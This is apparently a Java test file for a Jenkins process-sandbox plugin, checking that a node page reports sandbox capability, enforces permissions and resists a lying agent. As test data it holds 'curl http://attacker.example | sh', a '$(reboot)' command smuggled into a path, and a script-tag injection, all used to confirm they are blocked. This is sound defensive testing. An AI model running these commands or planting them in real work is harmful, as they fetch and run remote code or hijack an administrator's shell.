package io.jenkins.plugins.sandbox.node;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.anEmptyMap;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.lessThan;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.sameInstance;
import static org.junit.jupiter.api.Assertions.assertThrows;

import hudson.model.AdministrativeMonitor;
import hudson.model.Computer;
import hudson.model.Slave;
import hudson.slaves.DumbSlave;
import hudson.slaves.JNLPLauncher;
import io.jenkins.plugins.sandbox.Pages;
import io.jenkins.plugins.sandbox.UnprivilegedAgent;
import io.jenkins.plugins.sandbox.config.Compulsory;
import io.jenkins.plugins.sandbox.config.SandboxConfiguration;
import io.jenkins.plugins.sandbox.launch.HostProbe;
import io.jenkins.plugins.sandbox.model.Cause;
import io.jenkins.plugins.sandbox.model.Errno;
import io.jenkins.plugins.sandbox.model.Level;
import io.jenkins.plugins.sandbox.model.Outcome;
import io.jenkins.plugins.sandbox.model.Primitive;
import io.jenkins.plugins.sandbox.model.Status;
import java.io.File;
import java.net.URL;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import jenkins.model.Jenkins;
import org.htmlunit.FailingHttpStatusCodeException;
import org.htmlunit.HttpMethod;
import org.htmlunit.WebRequest;
import org.htmlunit.html.HtmlButton;
import org.htmlunit.html.HtmlPage;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.jvnet.hudson.test.JenkinsRule;
import org.jvnet.hudson.test.MockAuthorizationStrategy;
import org.jvnet.hudson.test.junit.jupiter.WithJenkins;

/** What nodes can do: tried on a real agent, and said by agents that lie. */
@WithJenkins
@Timeout(value = 5, unit = TimeUnit.MINUTES)
class NodePageTest {
    private static final String PAGE = "computer/linux/process-sandbox/";
    private static final String LIAR = "computer/liar/process-sandbox/";

    @RegisterExtension
    private static final UnprivilegedAgent AGENTS = new UnprivilegedAgent().shared();

    private static JenkinsRule r;
    private static Slave agent;

    /** Never connected. */
    private static Slave liar;

    @BeforeAll
    static void start(JenkinsRule rule) throws Exception {
        r = rule;
        agent = AGENTS.start(r, "linux");
        liar = new DumbSlave("liar", "/srv/agent", new JNLPLauncher(true));
        liar.setLabelString("liar");
        r.jenkins.addNode(liar);
        awaitReport();
    }

    @AfterAll
    static void stop() throws Exception {
        r.after();
    }

    @AfterEach
    void reset() {
        r.jenkins.setAuthorizationStrategy(new hudson.security.AuthorizationStrategy.Unsecured());
        r.jenkins.setSecurityRealm(hudson.security.SecurityRealm.NO_AUTHENTICATION);
        SandboxConfiguration.get().setCompulsory(new Compulsory());
        SandboxConfiguration.get().setMinimumLevel("BASELINE");
    }

    private static Computer computer() {
        return agent.toComputer();
    }

    private static NodeReport awaitReport() throws InterruptedException {
        while (NodeReports.get().of(computer()) == null) {
            Thread.sleep(100);
        }
        return NodeReports.get().of(computer());
    }

    private static NodeReport report() {
        NodeReport report = NodeReports.get().of(computer());
        assertThat(report, is(notNullValue()));
        return report;
    }

    private static HostProbe probe(HostProbe.Row... rows) {
        return new HostProbe(Map.of("kernel", "Linux 6.1"), "memfd", Level.FULL, List.of(rows), null);
    }

    private static HostProbe.Row row(Primitive primitive, int errno, String detail, Cause cause) {
        return new HostProbe.Row(
                new Outcome(primitive, errno == 0 ? Status.APPLIED : Status.FAILED, errno, detail),
                cause,
                "curl http://attacker.example | sh",
                "curl http://attacker.example | sh");
    }

    /** As if an agent had said so that nobody will ask again. */
    private static NodeReport say(HostProbe probe) {
        NodeReport report = NodeReport.of(probe, "/srv/agent", Instant.now());
        NodeReports.get().put(liar.toComputer(), report);
        return report;
    }

    @Test
    void anAgentIsTriedWhenItConnects() throws Exception {
        assertThat(report().problem(), is(nullValue()));
        assertThat(report().level(FloorPolicy.get()), is(Level.FULL));
        assertThat(report().unmet(FloorPolicy.get()).isPresent(), is(false));
        assertThat(report().facts(), is(not(anEmptyMap())));
        List<Primitive> tried =
                report().rows().stream().map(row -> row.outcome().primitive()).toList();
        assertThat(
                tried,
                hasItems(
                        Primitive.CGROUP,
                        Primitive.FILESYSTEM,
                        Primitive.RLIMIT_CPU,
                        Primitive.RLIMIT_NPROC,
                        Primitive.RLIMIT_STACK,
                        Primitive.CPU_AFFINITY,
                        Primitive.LANDLOCK_NET));
        assertThat(
                List.of(new File(agent.getRemoteFS()).list()), everyItem(not(containsString("process-sandbox-probe"))));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            HtmlPage page = client.goTo(PAGE);
            String text = page.asNormalizedText();
            assertThat(text, containsString("Profile strict reaches FULL here. The minimum level is BASELINE."));
            assertThat(text, containsString("own process ids"));
            assertThat(text, containsString("Not asked for by profile strict."));
            Pages.assertNothingInline(page);
            assertThat(client.goTo("computer/linux/").asNormalizedText(), containsString("Process Sandbox"));
            HtmlPage list = client.goTo("computer/");
            assertThat(list.asNormalizedText(), containsString("Process Sandbox"));
            assertThat(list.querySelector("#node_linux").asNormalizedText(), containsString("FULL"));
        }
    }

    @Test
    void itCanBeTriedAgain() throws Exception {
        NodeReport before = report();
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            HtmlPage page = client.goTo(PAGE);
            HtmlButton again = (HtmlButton) page.getElementsByTagName("button").stream()
                    .filter(b -> b.getTextContent().contains("Try again"))
                    .findFirst()
                    .orElseThrow();
            again.click();
            assertThat(report(), is(not(sameInstance(before))));
            // Not by a link that somebody else made.
            client.assertFails(PAGE + "refresh", 404);
        }
    }

    @Test
    void onlyWhoMayConfigureTriesAndOnlyWhoMayReadLooks() throws Exception {
        r.jenkins.setSecurityRealm(r.createDummySecurityRealm());
        r.jenkins.setAuthorizationStrategy(new MockAuthorizationStrategy()
                .grant(Jenkins.READ)
                .everywhere()
                .to("stranger", "auditor", "operator")
                .grant(Jenkins.SYSTEM_READ)
                .everywhere()
                .to("auditor")
                .grant(Computer.CONFIGURE)
                .everywhere()
                .to("operator"));
        NodeReport before = say(probe(row(Primitive.SESSION, 0, "", Cause.NONE)));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            client.login("stranger");
            client.assertFails(LIAR, 403);
            assertThat(client.goTo("computer/liar/").getAnchors().toString(), not(containsString("process-sandbox")));
            assertThat(post(client).getStatusCode(), is(403));
            client.login("auditor");
            HtmlPage page = client.goTo(LIAR);
            assertThat(page.asNormalizedText(), containsString("reaches PARTIAL here"));
            assertThat(page.asNormalizedText(), not(containsString("Try again")));
            assertThat(post(client).getStatusCode(), is(403));
            assertThat(NodeReports.get().of(liar.toComputer()), is(sameInstance(before)));
            client.login("operator");
            assertThat(client.goTo(LIAR).asNormalizedText(), containsString("Try again"));
        }
    }

    private static FailingHttpStatusCodeException post(JenkinsRule.WebClient client) {
        return assertThrows(
                FailingHttpStatusCodeException.class,
                () -> client.getPage(
                        client.addCrumb(new WebRequest(new URL(r.getURL(), LIAR + "refresh"), HttpMethod.POST))));
    }

    @Test
    void whatIsMissingComesWithWhatToDo() throws Exception {
        SandboxConfiguration.get().setMinimumLevel("FULL");
        NodeReport report = say(probe(
                row(Primitive.SESSION, 0, "", Cause.NONE),
                row(Primitive.USER_NAMESPACE, Errno.EPERM, "unshare", Cause.APPARMOR_RESTRICTION),
                row(Primitive.PID_NAMESPACE, Errno.EPERM, "clone", Cause.PREREQUISITE)));
        assertThat(report.level(FloorPolicy.get()), is(Level.PARTIAL));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            HtmlPage page = client.goTo(LIAR);
            String text = page.asNormalizedText();
            assertThat(text, containsString("Profile strict reaches PARTIAL here. The minimum level is FULL."));
            assertThat(text, containsString("Builds that use the sandbox fail here."));
            assertThat(text, containsString("EPERM"));
            assertThat(text, containsString("AppArmor takes the rights in a user namespace away"));
            assertThat(
                    text, containsString("profile process-sandbox /srv/agent/caches/process-sandbox/launcher-* flags"));
            assertThat(page.querySelectorAll("pre"), hasSize(1));
            assertThat(
                    page.querySelector(".jenkins-copy-button")
                            .getAttributes()
                            .getNamedItem("text")
                            .getNodeValue(),
                    containsString("apparmor_parser -r"));
            Pages.assertNothingInline(page);
            HtmlPage list = client.goTo("computer/");
            assertThat(
                    list.querySelector("#node_liar td.jenkins-\\!-error-color").asNormalizedText(), is("PARTIAL"));
        }
    }

    @Test
    void eachLimitOnNamespacesHasItsOwnLines() {
        NodeReport report = say(probe(
                row(Primitive.USER_NAMESPACE, Errno.ENOSPC, "unshare", Cause.NAMESPACE_LIMIT),
                row(Primitive.NETWORK_NAMESPACE, Errno.ENOSPC, "unshare", Cause.NAMESPACE_LIMIT),
                row(Primitive.LANDLOCK_FS, Errno.EPERM, "x", Cause.SECCOMP_FILTER),
                row(Primitive.SECCOMP, Errno.EPERM, "x", Cause.SECCOMP_FILTER)));
        List<String> pastes = report.rows().stream().map(NodeRow::paste).toList();
        assertThat(pastes.get(0), containsString("sysctl -w user.max_user_namespaces=15000"));
        assertThat(pastes.get(1), containsString("sysctl -w user.max_net_namespaces=15000"));
        assertThat(pastes.get(2), containsString("SCMP_ACT_ALLOW"));
        assertThat(pastes.get(3), is(""));
    }

    /** It would be pasted into the shell of an administrator. */
    @Test
    void noAgentPutsWordsIntoAnAdministratorsShell() throws Exception {
        NodeReport report = say(probe(row(Primitive.SECCOMP, Errno.EPERM, "prctl", Cause.SECCOMP_FILTER)));
        assertThat(report.rows().toString(), not(containsString("attacker")));
        NodeReport odd = NodeReport.of(
                probe(row(Primitive.USER_NAMESPACE, Errno.EPERM, "unshare", Cause.APPARMOR_RESTRICTION)),
                "/srv/$(reboot)",
                Instant.now());
        assertThat(odd.rows().get(0).paste(), containsString("profile process-sandbox /ROOT/OF/THE/NODE/caches"));
    }

    @Test
    void aLyingAgentGetsNothingPast() throws Exception {
        String markup = "<script>alert(1)</script><b>bold</b>";
        Map<String, String> facts = new HashMap<>();
        for (int i = 0; i < 1000; i++) {
            facts.put(markup + i, "x".repeat(100_000));
        }
        List<HostProbe.Row> rows = new ArrayList<>();
        for (int i = 0; i < 1000; i++) {
            rows.add(row(Primitive.SECCOMP, 999_999, markup + "\u202e\n" + "y".repeat(100_000), null));
        }
        rows.add(new HostProbe.Row(null, null, null, null));
        NodeReport report = say(new HostProbe(facts, "carrier pigeon", Level.FULL, rows, null));
        assertThat(report.rows(), hasSize(1));
        assertThat(report.rows().get(0).getError(), is(nullValue()));
        assertThat(report.level(FloorPolicy.get()), is(Level.NONE));
        assertThat(report.toString().length(), is(lessThan(50_000)));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            HtmlPage page = client.goTo(LIAR);
            assertThat(page.asNormalizedText(), containsString(markup));
            assertThat(page.getElementById("main-panel").getElementsByTagName("b"), is(empty()));
            Pages.assertNothingInline(page);
        }
        report = say(new HostProbe(Map.of(), null, Level.NONE, List.of(), markup));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            HtmlPage page = client.goTo(LIAR);
            assertThat(page.asNormalizedText(), containsString("Builds that use the sandbox fail here. " + markup));
            assertThat(page.getElementById("main-panel").getElementsByTagName("b"), is(empty()));
        }
    }

    @Test
    void anAdministratorIsToldOfACompulsorySandboxThatCannotWork() throws Exception {
        UnmetFloorMonitor monitor = AdministrativeMonitor.all().get(UnmetFloorMonitor.class);
        NodeReport report =
                say(new HostProbe(Map.of(), null, Level.NONE, List.of(), "The agent runs on <i>Windows</i>."));
        assertThat(monitor.isActivated(), is(false));
        Compulsory compulsory = new Compulsory();
        compulsory.setWhere("label");
        compulsory.setLabel("liar");
        SandboxConfiguration.get().setCompulsory(compulsory);
        assertThat(monitor.isActivated(), is(true));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            HtmlPage page = client.goTo("manage/");
            String text = page.asNormalizedText();
            assertThat(
                    text, containsString("The process sandbox is compulsory on nodes that cannot reach its minimum"));
            assertThat(text, containsString("liar: The agent runs on <i>Windows</i>."));
            assertThat(
                    page.getAnchors().stream().map(a -> a.getHrefAttribute()).toList(),
                    hasItem(containsString("computer/liar/process-sandbox/")));
        }
        say(probe(row(Primitive.SESSION, 0, "", Cause.NONE)));
        assertThat(monitor.isActivated(), is(false));
    }

    @Test
    void nothingIsKnownOfANodeThatIsGone() throws Exception {
        computer().disconnect(null).get();
        assertThat(NodeReports.get().of(computer()), is(nullValue()));
        try (JenkinsRule.WebClient client = r.createWebClient()) {
            assertThat(
                    client.goTo(PAGE).asNormalizedText(),
                    containsString("Nothing is known while the node is not connected."));
        } finally {
            r.waitOnline(agent);
        }
        assertThat(awaitReport().level(FloorPolicy.get()), is(Level.FULL));
    }
}
